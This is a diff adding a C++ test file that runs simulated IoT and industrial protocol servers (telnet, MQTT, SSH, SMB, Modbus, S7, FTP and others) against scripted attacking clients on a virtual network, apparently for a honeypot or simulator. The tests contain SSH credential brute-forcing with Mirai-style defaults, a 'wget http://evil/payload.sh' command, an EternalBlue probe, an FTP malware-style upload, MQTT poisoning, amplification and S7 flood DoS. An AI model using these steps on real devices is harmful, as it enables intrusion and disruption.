@@ -1,0 +1,783 @@
+// Server-engine behaviour tests: each protocol service driven end-to-end
+// over the simulated fabric by a scripted client.
+#include <gtest/gtest.h>
+
+#include "proto/amqp.h"
+#include "proto/coap.h"
+#include "proto/ftp.h"
+#include "proto/http.h"
+#include "proto/modbus.h"
+#include "proto/mqtt.h"
+#include "proto/s7.h"
+#include "proto/smb.h"
+#include "proto/ssdp.h"
+#include "proto/ssh.h"
+#include "proto/telnet.h"
+#include "proto/xmpp.h"
+#include "test_helpers.h"
+
+namespace ofh::proto {
+namespace {
+
+using test::PlainHost;
+using test::SimTest;
+using util::Ipv4Addr;
+
+class ServerTest : public SimTest {
+ protected:
+  ServerTest()
+      : server_(Ipv4Addr(10, 0, 0, 1)), client_(Ipv4Addr(10, 0, 0, 2)) {
+    server_.attach(fabric_);
+    client_.attach(fabric_);
+  }
+
+  // Connects, sends `payload`, collects everything received for `window`.
+  std::string tcp_exchange(std::uint16_t port, util::Bytes payload,
+                           sim::Duration window = sim::seconds(2)) {
+    auto collected = std::make_shared<std::string>();
+    client_.tcp().connect(server_.address(), port,
+                          [payload = std::move(payload),
+                           collected](net::TcpConnection* conn) mutable {
+                            if (conn == nullptr) return;
+                            if (!payload.empty()) conn->send(std::move(payload));
+                            conn->on_data =
+                                [collected](net::TcpConnection&,
+                                            std::span<const std::uint8_t> data) {
+                                  *collected += util::to_string(data);
+                                };
+                          });
+    run(window);
+    run();
+    return *collected;
+  }
+
+  std::string udp_exchange(std::uint16_t port, util::Bytes payload) {
+    auto collected = std::make_shared<std::string>();
+    client_.udp().bind(33'333, [collected](const net::Datagram& datagram) {
+      *collected += util::to_string(datagram.payload);
+    });
+    client_.udp().send(server_.address(), port, std::move(payload), 33'333);
+    run();
+    client_.udp().unbind(33'333);
+    return *collected;
+  }
+
+  PlainHost server_;
+  PlainHost client_;
+};
+
+// ----------------------------------------------------------------- telnet
+
+TEST_F(ServerTest, TelnetOpenConsoleGivesShellImmediately) {
+  auto config = telnet::TelnetServerConfig::open_console("root@cam:~$ ",
+                                                         "HiKVision\r\n");
+  telnet::TelnetServer server(config);
+  server.install(server_);
+  const auto banner = tcp_exchange(23, {});
+  EXPECT_NE(banner.find("HiKVision"), std::string::npos);
+  EXPECT_NE(banner.find("root@cam:~$"), std::string::npos);
+}
+
+TEST_F(ServerTest, TelnetLoginFlowAcceptsValidCredentials) {
+  auto config = telnet::TelnetServerConfig::login_console(
+      "device\r\n", AuthConfig::with("admin", "admin"));
+  std::vector<std::string> attempts;
+  telnet::TelnetEvents events;
+  events.on_login_attempt = [&](Ipv4Addr, const std::string& user,
+                                const std::string& pass, bool ok) {
+    attempts.push_back(user + ":" + pass + (ok ? ":ok" : ":fail"));
+  };
+  telnet::TelnetServer server(config, events);
+  server.install(server_);
+
+  telnet::TelnetClient::Result result;
+  telnet::TelnetClient::run(
+      client_, server_.address(), 23, {{"root", "wrong"}, {"admin", "admin"}},
+      {"uname -a"}, [&](const telnet::TelnetClient::Result& r) { result = r; });
+  run(sim::minutes(2));
+  EXPECT_TRUE(result.connected);
+  EXPECT_TRUE(result.shell);
+  EXPECT_EQ(result.used.user, "admin");
+  ASSERT_EQ(attempts.size(), 2u);
+  EXPECT_EQ(attempts[0], "root:wrong:fail");
+  EXPECT_EQ(attempts[1], "admin:admin:ok");
+}
+
+TEST_F(ServerTest, TelnetRejectsAfterMaxAttempts) {
+  auto config = telnet::TelnetServerConfig::login_console(
+      "", AuthConfig::with("admin", "correct"));
+  config.max_login_attempts = 2;
+  telnet::TelnetServer server(config);
+  server.install(server_);
+
+  telnet::TelnetClient::Result result;
+  telnet::TelnetClient::run(
+      client_, server_.address(), 23,
+      {{"a", "1"}, {"b", "2"}, {"c", "3"}}, {},
+      [&](const telnet::TelnetClient::Result& r) { result = r; });
+  run(sim::minutes(2));
+  EXPECT_TRUE(result.connected);
+  EXPECT_FALSE(result.shell);
+  EXPECT_TRUE(result.login_required);
+}
+
+TEST_F(ServerTest, TelnetCommandResponses) {
+  auto config = telnet::TelnetServerConfig::open_console("$ ");
+  config.command_responses = {{"uname", "Linux armv7l\r\n"}};
+  std::vector<std::string> commands;
+  telnet::TelnetEvents events;
+  events.on_command = [&](Ipv4Addr, const std::string& command) {
+    commands.push_back(command);
+  };
+  telnet::TelnetServer server(config, events);
+  server.install(server_);
+
+  const auto out = tcp_exchange(23, util::to_bytes("uname -r\r\n"));
+  EXPECT_NE(out.find("Linux armv7l"), std::string::npos);
+  ASSERT_EQ(commands.size(), 1u);
+  EXPECT_EQ(commands[0], "uname -r");
+}
+
+// ------------------------------------------------------------------- mqtt
+
+TEST_F(ServerTest, MqttOpenBrokerAcceptsAnonymousConnect) {
+  mqtt::BrokerConfig config;
+  config.auth = AuthConfig::open();
+  mqtt::Broker broker(config);
+  broker.install(server_);
+
+  mqtt::ConnectPacket connect;
+  connect.client_id = "test";
+  const auto reply = tcp_exchange(1883, mqtt::encode_connect(connect));
+  // CONNACK with return code 0.
+  ASSERT_GE(reply.size(), 4u);
+  EXPECT_EQ(static_cast<std::uint8_t>(reply[0]) >> 4,
+            static_cast<int>(mqtt::PacketType::kConnack));
+  EXPECT_EQ(reply[3], 0);
+}
+
+TEST_F(ServerTest, MqttSecuredBrokerRejectsAnonymous) {
+  mqtt::BrokerConfig config;
+  config.auth = AuthConfig::with("user", "pass");
+  mqtt::Broker broker(config);
+  broker.install(server_);
+
+  mqtt::ConnectPacket connect;
+  connect.client_id = "test";
+  const auto reply = tcp_exchange(1883, mqtt::encode_connect(connect));
+  ASSERT_GE(reply.size(), 4u);
+  EXPECT_EQ(reply[3], 5);  // not authorized
+}
+
+TEST_F(ServerTest, MqttSubscribeDeliversRetainedMessages) {
+  mqtt::BrokerConfig config;
+  config.auth = AuthConfig::open();
+  config.retained = {{"octoPrint/temperature/bed", "60.0"}};
+  mqtt::Broker broker(config);
+  broker.install(server_);
+
+  mqtt::ConnectPacket connect;
+  connect.client_id = "sub";
+  util::Bytes payload = mqtt::encode_connect(connect);
+  mqtt::SubscribePacket subscribe;
+  subscribe.packet_id = 1;
+  subscribe.topic_filters = {"#"};
+  const auto frame = mqtt::encode_subscribe(subscribe);
+  payload.insert(payload.end(), frame.begin(), frame.end());
+
+  const auto reply = tcp_exchange(1883, std::move(payload));
+  EXPECT_NE(reply.find("octoPrint/temperature/bed"), std::string::npos);
+  EXPECT_NE(reply.find("60.0"), std::string::npos);
+}
+
+TEST_F(ServerTest, MqttPublishPoisonsRetainedState) {
+  mqtt::BrokerConfig config;
+  config.auth = AuthConfig::open();
+  config.retained = {{"sensor/value", "21"}};
+  mqtt::Broker broker(config);
+  broker.install(server_);
+
+  mqtt::ConnectPacket connect;
+  connect.client_id = "evil";
+  util::Bytes payload = mqtt::encode_connect(connect);
+  mqtt::PublishPacket publish;
+  publish.topic = "sensor/value";
+  publish.payload = util::to_bytes("9999");
+  const auto frame = mqtt::encode_publish(publish);
+  payload.insert(payload.end(), frame.begin(), frame.end());
+  tcp_exchange(1883, std::move(payload));
+
+  EXPECT_EQ(broker.retained("sensor/value"), "9999");
+}
+
+TEST_F(ServerTest, MqttUnsubscribeAcknowledged) {
+  mqtt::BrokerConfig config;
+  config.auth = AuthConfig::open();
+  mqtt::Broker broker(config);
+  broker.install(server_);
+
+  mqtt::ConnectPacket connect;
+  connect.client_id = "unsub";
+  util::Bytes payload = mqtt::encode_connect(connect);
+  mqtt::SubscribePacket subscribe;
+  subscribe.packet_id = 4;
+  subscribe.topic_filters = {"a/#"};
+  const auto sub = mqtt::encode_subscribe(subscribe);
+  payload.insert(payload.end(), sub.begin(), sub.end());
+  // UNSUBSCRIBE frame: packet id + filter.
+  util::ByteWriter unsub_body;
+  unsub_body.u16(5).str16("a/#");
+  const auto unsub = mqtt::encode_packet(mqtt::PacketType::kUnsubscribe,
+                                         0x02, unsub_body.bytes());
+  payload.insert(payload.end(), unsub.begin(), unsub.end());
+
+  const auto reply = tcp_exchange(1883, std::move(payload));
+  // The reply stream must contain an UNSUBACK (type 11) echoing id 5.
+  bool saw_unsuback = false;
+  for (std::size_t i = 0; i + 3 < reply.size(); ++i) {
+    if ((static_cast<std::uint8_t>(reply[i]) >> 4) ==
+            static_cast<int>(mqtt::PacketType::kUnsuback) &&
+        static_cast<std::uint8_t>(reply[i + 1]) == 2 &&
+        static_cast<std::uint8_t>(reply[i + 3]) == 5) {
+      saw_unsuback = true;
+    }
+  }
+  EXPECT_TRUE(saw_unsuback);
+}
+
+TEST_F(ServerTest, MqttExposesSysTopics) {
+  mqtt::BrokerConfig config;
+  config.auth = AuthConfig::open();
+  mqtt::Broker broker(config);
+  EXPECT_TRUE(broker.retained("$SYS/broker/version").has_value());
+}
+
+// ------------------------------------------------------------------- coap
+
+TEST_F(ServerTest, CoapDiscoveryListsResources) {
+  coap::CoapServerConfig config;
+  config.resources = {{"sensors/temp", "ucum:Cel", "21.3", true}};
+  coap::CoapServer server(config);
+  server.install(server_);
+
+  const auto request = coap::make_discovery_request(1);
+  const auto raw = udp_exchange(5683, coap::encode(request));
+  const auto response = coap::decode(util::to_bytes(raw));
+  ASSERT_TRUE(response);
+  EXPECT_EQ(response->code, coap::Code::kContent);
+  EXPECT_NE(util::to_string(response->payload).find("</sensors/temp>"),
+            std::string::npos);
+}
+
+TEST_F(ServerTest, CoapHiddenDiscoveryAnswersUnauthorized) {
+  coap::CoapServerConfig config;
+  config.expose_discovery = false;
+  config.open_access = false;
+  coap::CoapServer server(config);
+  server.install(server_);
+
+  const auto raw =
+      udp_exchange(5683, coap::encode(coap::make_discovery_request(1)));
+  const auto response = coap::decode(util::to_bytes(raw));
+  ASSERT_TRUE(response);
+  EXPECT_EQ(response->code, coap::Code::kUnauthorized);
+}
+
+TEST_F(ServerTest, CoapOpenAccessAllowsPut) {
+  coap::CoapServerConfig config;
+  config.open_access = true;
+  config.resources = {{"state", "core.s", "on", true}};
+  coap::CoapServer server(config);
+  server.install(server_);
+
+  coap::Message put;
+  put.code = coap::Code::kPut;
+  put.message_id = 9;
+  put.set_uri_path("state");
+  put.payload = util::to_bytes("off");
+  const auto raw = udp_exchange(5683, coap::encode(put));
+  const auto response = coap::decode(util::to_bytes(raw));
+  ASSERT_TRUE(response);
+  EXPECT_EQ(response->code, coap::Code::kChanged);
+  EXPECT_EQ(server.resource_value("state"), "off");
+}
+
+TEST_F(ServerTest, CoapClosedAccessRejectsResourceReads) {
+  coap::CoapServerConfig config;
+  config.open_access = false;
+  config.resources = {{"state", "core.s", "on", true}};
+  coap::CoapServer server(config);
+  server.install(server_);
+
+  coap::Message get;
+  get.code = coap::Code::kGet;
+  get.message_id = 2;
+  get.set_uri_path("state");
+  const auto raw = udp_exchange(5683, coap::encode(get));
+  const auto response = coap::decode(util::to_bytes(raw));
+  ASSERT_TRUE(response);
+  EXPECT_EQ(response->code, coap::Code::kUnauthorized);
+}
+
+TEST_F(ServerTest, CoapDiscoveryAmplifies) {
+  coap::CoapServerConfig config;
+  config.discovery_padding = 512;
+  config.resources = {{"a", "", "1", true}, {"b", "", "2", true}};
+  coap::CoapServer server(config);
+  server.install(server_);
+
+  const auto request = coap::encode(coap::make_discovery_request(1));
+  const auto raw = udp_exchange(5683, util::Bytes(request));
+  EXPECT_GT(raw.size(), request.size() * 10);  // amplification factor > 10x
+}
+
+// ------------------------------------------------------------------- amqp
+
+TEST_F(ServerTest, AmqpAnnouncesProductAndMechanisms) {
+  amqp::AmqpBrokerConfig config;
+  config.product = "RabbitMQ";
+  config.version = "2.7.1";
+  config.auth = AuthConfig::open();
+  amqp::AmqpBroker broker(config);
+  broker.install(server_);
+
+  const auto raw = tcp_exchange(5672, amqp::protocol_header());
+  std::size_t consumed = 0;
+  const auto frame = amqp::decode_frame(util::to_bytes(raw), &consumed);
+  ASSERT_TRUE(frame);
+  const auto start = amqp::decode_start(frame->payload);
+  ASSERT_TRUE(start);
+  EXPECT_EQ(start->product, "RabbitMQ");
+  EXPECT_EQ(start->version, "2.7.1");
+  EXPECT_NE(std::find(start->mechanisms.begin(), start->mechanisms.end(),
+                      "ANONYMOUS"),
+            start->mechanisms.end());
+}
+
+TEST_F(ServerTest, AmqpSecuredBrokerOmitsAnonymous) {
+  amqp::AmqpBrokerConfig config;
+  config.auth = AuthConfig::with("guest", "guest");
+  amqp::AmqpBroker broker(config);
+  broker.install(server_);
+
+  const auto raw = tcp_exchange(5672, amqp::protocol_header());
+  std::size_t consumed = 0;
+  const auto frame = amqp::decode_frame(util::to_bytes(raw), &consumed);
+  ASSERT_TRUE(frame);
+  const auto start = amqp::decode_start(frame->payload);
+  ASSERT_TRUE(start);
+  EXPECT_EQ(std::find(start->mechanisms.begin(), start->mechanisms.end(),
+                      "ANONYMOUS"),
+            start->mechanisms.end());
+}
+
+TEST_F(ServerTest, AmqpPublishGrowsQueue) {
+  amqp::AmqpBrokerConfig config;
+  config.auth = AuthConfig::open();
+  amqp::AmqpBroker broker(config);
+  broker.install(server_);
+
+  util::Bytes payload = amqp::protocol_header();
+  const auto start_ok =
+      amqp::encode_start_ok(amqp::StartOkMethod{"ANONYMOUS", "", ""});
+  amqp::Frame auth_frame;
+  auth_frame.type = amqp::FrameType::kMethod;
+  auth_frame.payload = start_ok;
+  const auto auth_bytes = amqp::encode_frame(auth_frame);
+  payload.insert(payload.end(), auth_bytes.begin(), auth_bytes.end());
+  const auto publish = amqp::AmqpBroker::publish_command("q1", "poison");
+  payload.insert(payload.end(), publish.begin(), publish.end());
+
+  tcp_exchange(5672, std::move(payload));
+  EXPECT_EQ(broker.queue_depth("q1"), 1u);
+}
+
+// ------------------------------------------------------------------- xmpp
+
+TEST_F(ServerTest, XmppAdvertisesAnonymousWhenMisconfigured) {
+  xmpp::XmppServerConfig config;
+  config.auth = AuthConfig::anonymous();
+  xmpp::XmppServer server(config);
+  server.install(server_);
+
+  const auto raw = tcp_exchange(5222, util::to_bytes(xmpp::stream_open("c")));
+  EXPECT_NE(raw.find("<mechanism>ANONYMOUS</mechanism>"), std::string::npos);
+}
+
+TEST_F(ServerTest, XmppAnonymousAuthSucceedsOnMisconfiguredServer) {
+  xmpp::XmppServerConfig config;
+  config.auth = AuthConfig::anonymous();
+  bool auth_ok = false;
+  xmpp::XmppEvents events;
+  events.on_auth = [&](Ipv4Addr, const std::string& mechanism, bool ok) {
+    if (mechanism == "ANONYMOUS") auth_ok = ok;
+  };
+  xmpp::XmppServer server(config, events);
+  server.install(server_);
+
+  std::string payload = xmpp::stream_open("client");
+  const auto raw0 = tcp_exchange(5222, util::to_bytes(payload));
+  // Second stage: new connection performing stream open + auth.
+  util::Bytes combined = util::to_bytes(xmpp::stream_open("client"));
+  run(sim::seconds(1));
+  // Send stream open, wait, then auth on same connection:
+  auto collected = std::make_shared<std::string>();
+  client_.tcp().connect(server_.address(), 5222, [&, collected](
+                                                     net::TcpConnection* conn) {
+    ASSERT_NE(conn, nullptr);
+    conn->on_data = [collected](net::TcpConnection& conn,
+                                std::span<const std::uint8_t> data) {
+      *collected += util::to_string(data);
+      if (collected->find("</stream:features>") != std::string::npos &&
+          collected->find("success") == std::string::npos) {
+        conn.send_text(xmpp::sasl_auth("ANONYMOUS", ""));
+      }
+    };
+    conn->send_text(xmpp::stream_open("client"));
+  });
+  run(sim::minutes(1));
+  EXPECT_TRUE(auth_ok);
+  EXPECT_NE(collected->find("<success"), std::string::npos);
+}
+
+TEST_F(ServerTest, XmppStrictServerRequiresTls) {
+  xmpp::XmppServerConfig config;
+  config.auth = AuthConfig::with("user", "pw");
+  config.starttls_required = true;
+  xmpp::XmppServer server(config);
+  server.install(server_);
+  const auto raw = tcp_exchange(5222, util::to_bytes(xmpp::stream_open("c")));
+  EXPECT_NE(raw.find("<required/>"), std::string::npos);
+  EXPECT_EQ(raw.find("<mechanism>ANONYMOUS</mechanism>"), std::string::npos);
+}
+
+// ------------------------------------------------------------------- ssdp
+
+TEST_F(ServerTest, UpnpDisclosingDeviceAnswersWithHeaders) {
+  ssdp::UpnpDeviceConfig config;
+  config.friendly_name = "TOTOLINK N150RA";
+  config.model_name = "N150RA";
+  config.responses_per_search = 2;
+  ssdp::UpnpDevice device(config);
+  device.install(server_);
+
+  ssdp::MSearch search;
+  const auto raw = udp_exchange(1900, ssdp::encode_msearch(search));
+  EXPECT_NE(raw.find("Friendly Name: TOTOLINK N150RA"), std::string::npos);
+  EXPECT_NE(raw.find("LOCATION:"), std::string::npos);
+  // Two duplicate responses arrived (amplification).
+  EXPECT_EQ(raw.find("HTTP/1.1 200 OK"), 0u);
+  EXPECT_NE(raw.find("HTTP/1.1 200 OK", 10), std::string::npos);
+}
+
+TEST_F(ServerTest, UpnpHardenedDeviceAnswersMinimally) {
+  ssdp::UpnpDeviceConfig config;
+  config.disclose_details = false;
+  config.friendly_name = "secret";
+  ssdp::UpnpDevice device(config);
+  device.install(server_);
+
+  const auto raw = udp_exchange(1900, ssdp::encode_msearch(ssdp::MSearch{}));
+  EXPECT_FALSE(raw.empty());
+  EXPECT_EQ(raw.find("LOCATION:"), std::string::npos);
+  EXPECT_EQ(raw.find("secret"), std::string::npos);
+}
+
+TEST_F(ServerTest, UpnpIgnoresNonSsdpPayloads) {
+  ssdp::UpnpDevice device(ssdp::UpnpDeviceConfig{});
+  device.install(server_);
+  const auto raw = udp_exchange(1900, util::to_bytes("GET / HTTP/1.1\r\n\r\n"));
+  EXPECT_TRUE(raw.empty());
+}
+
+// -------------------------------------------------------------------- ssh
+
+TEST_F(ServerTest, SshClientBruteForcesUntilSuccess) {
+  ssh::SshServerConfig config;
+  config.auth = AuthConfig::with("root", "xc3511");
+  std::vector<bool> results;
+  ssh::SshEvents events;
+  events.on_auth = [&](Ipv4Addr, const std::string&, const std::string&,
+                       bool ok) { results.push_back(ok); };
+  ssh::SshServer server(config, events);
+  server.install(server_);
+
+  ssh::SshClient::Result result;
+  ssh::SshClient::run(client_, server_.address(), 22,
+                      {{"admin", "admin"}, {"root", "root"}, {"root", "xc3511"}},
+                      {"wget http://evil/payload.sh"},
+                      [&](const ssh::SshClient::Result& r) { result = r; });
+  run(sim::minutes(1));
+  EXPECT_TRUE(result.connected);
+  EXPECT_TRUE(result.authenticated);
+  EXPECT_EQ(result.used.pass, "xc3511");
+  EXPECT_EQ(result.server_banner.find("SSH-2.0-"), 0u);
+  EXPECT_EQ(results, (std::vector<bool>{false, false, true}));
+}
+
+TEST_F(ServerTest, SshServerDisconnectsAfterMaxAttempts) {
+  ssh::SshServerConfig config;
+  config.auth = AuthConfig::with("a", "b");
+  config.max_attempts = 2;
+  ssh::SshServer server(config);
+  server.install(server_);
+
+  ssh::SshClient::Result result;
+  ssh::SshClient::run(client_, server_.address(), 22,
+                      {{"x", "1"}, {"x", "2"}, {"x", "3"}, {"x", "4"}}, {},
+                      [&](const ssh::SshClient::Result& r) { result = r; });
+  run(sim::minutes(1));
+  EXPECT_TRUE(result.connected);
+  EXPECT_FALSE(result.authenticated);
+  EXPECT_LE(result.attempts, 3);
+}
+
+// ------------------------------------------------------------------- http
+
+TEST_F(ServerTest, HttpServesRoutesAnd404) {
+  http::HttpServerConfig config;
+  config.routes = {{"/", "<html>home</html>"}};
+  http::HttpServer server(config);
+  server.install(server_);
+
+  http::Request request;
+  const auto ok = tcp_exchange(80, http::encode_request(request));
+  EXPECT_NE(ok.find("200 OK"), std::string::npos);
+  EXPECT_NE(ok.find("<html>home</html>"), std::string::npos);
+
+  http::Request missing;
+  missing.path = "/nope";
+  const auto notfound = tcp_exchange(80, http::encode_request(missing));
+  EXPECT_NE(notfound.find("404"), std::string::npos);
+}
+
+TEST_F(ServerTest, HttpLoginFormChecksCredentials) {
+  http::HttpServerConfig config;
+  config.has_login_form = true;
+  config.auth = AuthConfig::with("admin", "polycom");
+  std::vector<bool> attempts;
+  http::HttpEvents events;
+  events.on_login_attempt = [&](Ipv4Addr, const std::string&,
+                                const std::string&, bool ok) {
+    attempts.push_back(ok);
+  };
+  http::HttpServer server(config, events);
+  server.install(server_);
+
+  http::Request bad;
+  bad.method = "POST";
+  bad.path = "/login";
+  bad.body = "user=admin&pass=wrong";
+  const auto denied = tcp_exchange(80, http::encode_request(bad));
+  EXPECT_NE(denied.find("401"), std::string::npos);
+
+  http::Request good;
+  good.method = "POST";
+  good.path = "/login";
+  good.body = "user=admin&pass=polycom";
+  const auto accepted = tcp_exchange(80, http::encode_request(good));
+  EXPECT_NE(accepted.find("200"), std::string::npos);
+  EXPECT_EQ(attempts, (std::vector<bool>{false, true}));
+}
+
+TEST_F(ServerTest, HttpClientGet) {
+  http::HttpServerConfig config;
+  config.routes = {{"/payload.sh", "#!/bin/sh\necho pwned"}};
+  http::HttpServer server(config);
+  server.install(server_);
+
+  std::optional<http::Response> got;
+  http::HttpClient::get(client_, server_.address(), 80, "/payload.sh",
+                        [&](std::optional<http::Response> response) {
+                          got = std::move(response);
+                        });
+  run(sim::minutes(1));
+  ASSERT_TRUE(got);
+  EXPECT_EQ(got->status, 200);
+  EXPECT_NE(got->body.find("pwned"), std::string::npos);
+}
+
+// -------------------------------------------------------------------- smb
+
+TEST_F(ServerTest, SmbNegotiateAndExploitDetection) {
+  smb::SmbServerConfig config;
+  config.vulnerable_to_eternalblue = true;
+  int exploits = 0;
+  smb::SmbEvents events;
+  events.on_exploit_attempt = [&](Ipv4Addr, const util::Bytes&) {
+    ++exploits;
+  };
+  smb::SmbServer server(config, events);
+  server.install(server_);
+
+  smb::SmbFrame negotiate;
+  negotiate.command = smb::Command::kNegotiate;
+  util::Bytes payload = smb::encode_frame(negotiate);
+  const auto probe = smb::eternalblue_probe();
+  payload.insert(payload.end(), probe.begin(), probe.end());
+
+  const auto raw = tcp_exchange(445, std::move(payload));
+  EXPECT_EQ(exploits, 1);
+  EXPECT_NE(raw.find("NT LM 0.12"), std::string::npos);
+}
+
+TEST_F(ServerTest, SmbPatchedHostResetsOnExploit) {
+  smb::SmbServerConfig config;
+  config.vulnerable_to_eternalblue = false;
+  smb::SmbServer server(config);
+  server.install(server_);
+
+  bool closed = false;
+  client_.tcp().connect(server_.address(), 445, [&](net::TcpConnection* conn) {
+    ASSERT_NE(conn, nullptr);
+    conn->on_close = [&](net::TcpConnection&) { closed = true; };
+    conn->send(smb::eternalblue_probe());
+  });
+  run(sim::minutes(1));
+  EXPECT_TRUE(closed);
+}
+
+// ----------------------------------------------------------------- modbus
+
+TEST_F(ServerTest, ModbusReadAndWriteRegisters) {
+  modbus::ModbusServer server(modbus::ModbusServerConfig{});
+  server.install(server_);
+  EXPECT_EQ(server.register_value(1), 1003);
+
+  modbus::Request write;
+  write.function = 0x06;
+  util::ByteWriter args;
+  args.u16(1).u16(5555);
+  write.data = args.take();
+  tcp_exchange(502, modbus::encode_request(write));
+  EXPECT_EQ(server.register_value(1), 5555);
+}
+
+TEST_F(ServerTest, ModbusInvalidFunctionGetsException) {
+  modbus::ModbusServer server(modbus::ModbusServerConfig{});
+  int invalid_count = 0;
+  modbus::ModbusEvents events;
+  events.on_request = [&](Ipv4Addr, std::uint8_t, bool valid) {
+    if (!valid) ++invalid_count;
+  };
+  modbus::ModbusServer server2(modbus::ModbusServerConfig{}, events);
+  server2.install(server_);
+
+  modbus::Request bogus;
+  bogus.function = 0x63;  // invalid
+  const auto raw = tcp_exchange(502, modbus::encode_request(bogus));
+  EXPECT_EQ(invalid_count, 1);
+  // Exception response: function | 0x80, code 0x01.
+  std::size_t consumed = 0;
+  const auto reply = modbus::decode_request(util::to_bytes(raw), &consumed);
+  ASSERT_TRUE(reply);
+  EXPECT_EQ(reply->function, 0x63 | 0x80);
+  EXPECT_EQ(reply->data[0], 0x01);
+}
+
+TEST_F(ServerTest, ModbusIllegalAddressException) {
+  modbus::ModbusServer server(modbus::ModbusServerConfig{});
+  server.install(server_);
+  modbus::Request read;
+  read.function = 0x03;
+  util::ByteWriter args;
+  args.u16(10'000).u16(4);  // out of range
+  read.data = args.take();
+  const auto raw = tcp_exchange(502, modbus::encode_request(read));
+  std::size_t consumed = 0;
+  const auto reply = modbus::decode_request(util::to_bytes(raw), &consumed);
+  ASSERT_TRUE(reply);
+  EXPECT_EQ(reply->function, 0x03 | 0x80);
+  EXPECT_EQ(reply->data[0], 0x02);
+}
+
+// --------------------------------------------------------------------- s7
+
+TEST_F(ServerTest, S7AnswersJobsUntilSlotsExhausted) {
+  proto::s7::S7ServerConfig config;
+  config.job_slots = 4;
+  config.job_recovery = sim::hours(4);  // no recovery within the test window
+  bool dos_triggered = false;
+  proto::s7::S7Events events;
+  events.on_dos_triggered = [&](Ipv4Addr) { dos_triggered = true; };
+  proto::s7::S7Server server(config, events);
+  server.install(server_);
+
+  util::Bytes payload = proto::s7::encode_cotp_connect();
+  for (int i = 0; i < 10; ++i) {
+    const auto job = proto::s7::encode_pdu(proto::s7::PduType::kJob,
+                                           static_cast<std::uint16_t>(i), {});
+    payload.insert(payload.end(), job.begin(), job.end());
+  }
+  tcp_exchange(102, std::move(payload));
+  EXPECT_TRUE(dos_triggered);
+  EXPECT_TRUE(server.saturated());
+  EXPECT_EQ(server.jobs_in_flight(), 4u);
+}
+
+TEST_F(ServerTest, S7RecoversAfterFloodStops) {
+  proto::s7::S7ServerConfig config;
+  config.job_slots = 2;
+  config.job_recovery = sim::minutes(30);
+  proto::s7::S7Server server(config);
+  server.install(server_);
+
+  util::Bytes payload = proto::s7::encode_cotp_connect();
+  for (int i = 0; i < 5; ++i) {
+    const auto job = proto::s7::encode_pdu(proto::s7::PduType::kJob,
+                                           static_cast<std::uint16_t>(i), {});
+    payload.insert(payload.end(), job.begin(), job.end());
+  }
+  tcp_exchange(102, std::move(payload));  // drains <= ~12 minutes
+  EXPECT_TRUE(server.saturated());
+  run(sim::hours(1));  // past the recovery window
+  EXPECT_FALSE(server.saturated());
+  EXPECT_EQ(server.jobs_in_flight(), 0u);
+}
+
+// -------------------------------------------------------------------- ftp
+
+TEST_F(ServerTest, FtpAnonymousLoginAndStore) {
+  ftp::FtpServerConfig config;
+  config.auth = AuthConfig::anonymous();
+  std::string stored_name, stored_content;
+  ftp::FtpEvents events;
+  events.on_store = [&](Ipv4Addr, const std::string& name,
+                        const std::string& content) {
+    stored_name = name;
+    stored_content = content;
+  };
+  ftp::FtpServer server(config, events);
+  server.install(server_);
+
+  const std::string script =
+      "USER anonymous\r\nPASS x@y\r\nSTOR mozi.m\r\nELF-PAYLOAD\r\n.\r\nQUIT\r\n";
+  const auto raw = tcp_exchange(21, util::to_bytes(script));
+  EXPECT_NE(raw.find("230 Login successful."), std::string::npos);
+  EXPECT_NE(raw.find("226 Transfer complete."), std::string::npos);
+  EXPECT_EQ(stored_name, "mozi.m");
+  EXPECT_NE(stored_content.find("ELF-PAYLOAD"), std::string::npos);
+  EXPECT_EQ(server.files().count("mozi.m"), 1u);
+}
+
+TEST_F(ServerTest, FtpRejectsAnonymousWhenDisallowed) {
+  ftp::FtpServerConfig config;
+  config.auth = AuthConfig::with("user", "pw");
+  ftp::FtpServer server(config);
+  server.install(server_);
+  const auto raw =
+      tcp_exchange(21, util::to_bytes("USER anonymous\r\nPASS x\r\n"));
+  EXPECT_NE(raw.find("530"), std::string::npos);
+}
+
+TEST_F(ServerTest, FtpListRequiresLogin) {
+  ftp::FtpServerConfig config;
+  config.auth = AuthConfig::anonymous();
+  ftp::FtpServer server(config);
+  server.install(server_);
+  const auto raw = tcp_exchange(21, util::to_bytes("LIST\r\n"));
+  EXPECT_NE(raw.find("530"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace ofh::proto
